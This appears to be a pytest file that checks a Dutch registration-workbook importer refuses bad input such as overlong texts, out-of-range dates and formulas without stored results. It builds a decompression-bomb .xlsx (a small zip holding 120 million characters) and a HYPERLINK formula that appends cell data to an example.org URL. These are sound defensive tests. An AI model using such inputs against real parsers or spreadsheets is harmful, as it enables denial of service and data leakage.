"""Issue 20: the registration workbook keeps the bounds of the forms and services. An absurd
workbook is refused before it is read; a text longer than its field, a number or date out of
range, a birth year after the intake and a formula without a stored result are problems naming
sheet, row and column; nothing is stored then."""

import io
import time
import tracemalloc
import zipfile

import pytest
import time_machine
from openpyxl import Workbook

from registratie.workbook import WorkbookError, import_workbook, read_plan
from registratie.workbook.columns import AANVRAAG_COLUMNS, HULPVRAAG_COLUMNS, PILOT_COLUMNS
from samenvooruit.grenzen import MOTIVATIE, OMSCHRIJVING
from tests.registratie.test_workbook import (
    AANVRAAG,
    HULPVRAAG,
    PILOT,
    row,
    table_counts,
    where,
    workbook,
)

pytestmark = pytest.mark.django_db

# The attack's workbook: 129 KB that held a description of 120,000,000 characters.
ABSURD_CHARACTERS = 120_000_000


@pytest.fixture(autouse=True)
def _today():
    with time_machine.travel("2021-06-01 12:00 +0200", tick=False):
        yield


def problems_of(plan):
    return {(p.blad, p.rij, p.kolom): str(p) for p in plan.problemen}


# -- an absurd workbook --------------------------------------------------------------------------


def absurd_workbook() -> io.BytesIO:
    """A valid registration workbook whose first help request's description is a shared text
    of ABSURD_CHARACTERS characters: a small zip, a huge sharedStrings.xml."""
    plain = workbook(pilots=[{}], hulpvragen=[{}])
    source = zipfile.ZipFile(plain)
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet2.xml":
                data = _description_as_shared_text(data)
            if item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
                    b"</Types>",
                )
            if item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships/sharedStrings" '
                    b'Target="sharedStrings.xml"/></Relationships>',
                )
            archive.writestr(item, data)
        with archive.open("xl/sharedStrings.xml", "w") as shared:
            shared.write(
                b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats'
                b'.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>'
            )
            chunk = b"x" * 1_000_000
            for _ in range(ABSURD_CHARACTERS // len(chunk)):
                shared.write(chunk)
            shared.write(b"</t></si></sst>")
    target.seek(0)
    return target


def _description_as_shared_text(sheet: bytes) -> bytes:
    """The description cell of row 2 (column Q) points at shared text 0."""
    start = sheet.index(b'<c r="Q2"')
    end = sheet.index(b"</c>", start) + len(b"</c>")
    return sheet[:start] + b'<c r="Q2" t="s"><v>0</v></c>' + sheet[end:]


def test_an_absurd_workbook_is_refused_quickly_before_it_is_read(org_a):
    file = absurd_workbook()
    before = table_counts()
    assert len(file.getvalue()) < 1_000_000  # the attack's file was 129 KB

    tracemalloc.start()
    start = time.perf_counter()
    with pytest.raises(WorkbookError) as refused:
        import_workbook(file, bestandsnaam="aanval.xlsx")
    seconds = time.perf_counter() - start
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert "uitgepakt" in str(refused.value)
    assert "niets opgeslagen" in str(refused.value)
    assert seconds < 5
    assert peak < 200 * 2**20
    assert table_counts() == before


def test_the_refusal_of_an_absurd_workbook_is_the_same_in_the_check(org_a):
    with pytest.raises(WorkbookError, match="uitgepakt"):
        read_plan(absurd_workbook())


# -- texts, numbers, dates -----------------------------------------------------------------------


def test_a_text_longer_than_its_field_is_a_problem_naming_row_and_column(org_a):
    file = workbook(
        pilots=[{}],
        hulpvragen=[{}, {"omschrijving": "o" * (OMSCHRIJVING + 1), "hulpvrager": "Bo"}],
        aanvragen=[{"motivatie": "m" * (MOTIVATIE + 1)}],
        headers={"Noodfonds": [*AANVRAAG_COLUMNS, "motivatie"]},
    )
    before = table_counts()

    resultaat = import_workbook(file)

    problems = problems_of(resultaat.plan)
    assert set(problems) == {("Hulpvragen", 3, "omschrijving"), ("Noodfonds", 2, "motivatie")}
    assert f"is te lang ({OMSCHRIJVING + 1} tekens)" in problems["Hulpvragen", 3, "omschrijving"]
    assert f"ten hoogste {OMSCHRIJVING} tekens" in problems["Hulpvragen", 3, "omschrijving"]
    # the problem repeats the beginning of the text, not all of it
    assert len(problems["Noodfonds", 2, "motivatie"]) < 400
    assert not resultaat.opgeslagen
    assert table_counts() == before


@pytest.mark.parametrize(
    ("cell", "value", "words"),
    [
        ("datum_aanmelding", "01-01-0001", "ligt voor 01-01-2000"),
        ("datum_aanmelding", "31-12-1999", "ligt voor 01-01-2000"),
        ("datum_aanmelding", "31-12-9999", "ligt in de toekomst"),
        ("geboortejaar", 2022, "valt buiten het toegestane bereik"),
        ("geboortejaar", 1899, "valt buiten het toegestane bereik"),
    ],
)
def test_an_implausible_date_or_year_is_a_problem(org_a, cell, value, words):
    plan = read_plan(workbook(pilots=[{}], hulpvragen=[{cell: value}]))

    problems = problems_of(plan)
    assert set(problems) == {("Hulpvragen", 2, cell)}
    assert words in problems["Hulpvragen", 2, cell]


def test_a_birth_year_after_the_intake_year_is_a_problem(org_a):
    plan = read_plan(
        workbook(
            pilots=[{"startdatum": "01-01-2019"}],
            hulpvragen=[{"datum_aanmelding": "15-06-2019", "geboortejaar": 2020}],
        )
    )

    problems = problems_of(plan)
    assert set(problems) == {("Hulpvragen", 2, "geboortejaar")}
    assert "ligt na het jaar van de datum_aanmelding" in problems["Hulpvragen", 2, "geboortejaar"]
    assert "een jaar tot en met 2019" in problems["Hulpvragen", 2, "geboortejaar"]


def test_a_target_above_the_maximum_and_an_early_pilot_are_problems(org_a):
    plan = read_plan(
        workbook(pilots=[{"taakstelling": 10_000_000}, {"naam": "Oud", "startdatum": "01-01-1990"}])
    )

    assert where(plan) == {("Pilots", 2, "taakstelling"), ("Pilots", 3, "startdatum")}


def test_a_fund_date_before_2000_is_a_problem(org_a):
    plan = read_plan(workbook(aanvragen=[{"datum_aanvraag": "01-01-0001"}]))

    problems = problems_of(plan)
    assert set(problems) == {("Noodfonds", 2, "datum_aanvraag")}
    assert "ligt voor 01-01-2000" in problems["Noodfonds", 2, "datum_aanvraag"]


# -- formulas ------------------------------------------------------------------------------------


def formula_workbook(**formulas) -> io.BytesIO:
    """A workbook whose first help request holds these formulas, written without a stored
    result (openpyxl, like any program but Excel, does not compute them)."""
    wb = Workbook()
    wb.active.title = "Pilots"
    wb["Pilots"].append(PILOT_COLUMNS)
    wb["Pilots"].append(row(PILOT, PILOT_COLUMNS))
    ws = wb.create_sheet("Hulpvragen")
    ws.append(HULPVRAAG_COLUMNS)
    ws.append(row(HULPVRAAG, HULPVRAAG_COLUMNS, **formulas))
    ws.append(row(HULPVRAAG, HULPVRAAG_COLUMNS, hulpvrager="Bo", datum_aanmelding="01-02-2021"))
    wb.create_sheet("Noodfonds").append(AANVRAAG_COLUMNS)
    wb["Noodfonds"].append(row(AANVRAAG, AANVRAAG_COLUMNS, gevraagd_bedrag="=100*2"))
    file = io.BytesIO()
    wb.save(file)
    file.seek(0)
    return file


def test_a_formula_without_a_stored_result_is_a_problem_naming_row_and_column(org_a):
    file = formula_workbook(
        omschrijving='=HYPERLINK("https://example.org/?"&A2,"klik")', geboortejaar="=1900+80"
    )
    before = table_counts()

    resultaat = import_workbook(file)

    problems = problems_of(resultaat.plan)
    assert set(problems) == {
        ("Hulpvragen", 2, "omschrijving"),
        ("Hulpvragen", 2, "geboortejaar"),
        ("Noodfonds", 2, "gevraagd_bedrag"),
    }
    assert all("formule zonder opgeslagen waarde" in text for text in problems.values())
    assert "Hulpvragen rij 2, kolom geboortejaar" in problems["Hulpvragen", 2, "geboortejaar"]
    assert not resultaat.opgeslagen
    assert table_counts() == before


def test_a_row_of_only_formulas_without_results_is_not_skipped_as_empty(org_a):
    wb = Workbook()
    wb.active.title = "Pilots"
    wb["Pilots"].append(PILOT_COLUMNS)
    ws = wb.create_sheet("Hulpvragen")
    ws.append(HULPVRAAG_COLUMNS)
    ws.append(["=A1"])
    wb.create_sheet("Noodfonds").append(AANVRAAG_COLUMNS)
    file = io.BytesIO()
    wb.save(file)
    file.seek(0)

    plan = read_plan(file)

    assert ("Hulpvragen", 2, "huishouden") in where(plan)


def test_a_formula_with_a_stored_result_counts_as_that_result(org_a):
    file = formula_workbook()
    with zipfile.ZipFile(file) as source:
        parts = {item: source.read(item) for item in source.namelist()}
    # as Excel saves it: the formula and its result
    parts["xl/worksheets/sheet3.xml"] = parts["xl/worksheets/sheet3.xml"].replace(
        b"<f>100*2</f><v></v>", b"<f>100*2</f><v>200</v>"
    )
    saved = io.BytesIO()
    with zipfile.ZipFile(saved, "w") as target:
        for name, data in parts.items():
            target.writestr(name, data)
    saved.seek(0)

    plan = read_plan(saved)

    assert plan.ok, [str(p) for p in plan.problemen]
    assert plan.aanvragen[0].gevraagd == 200
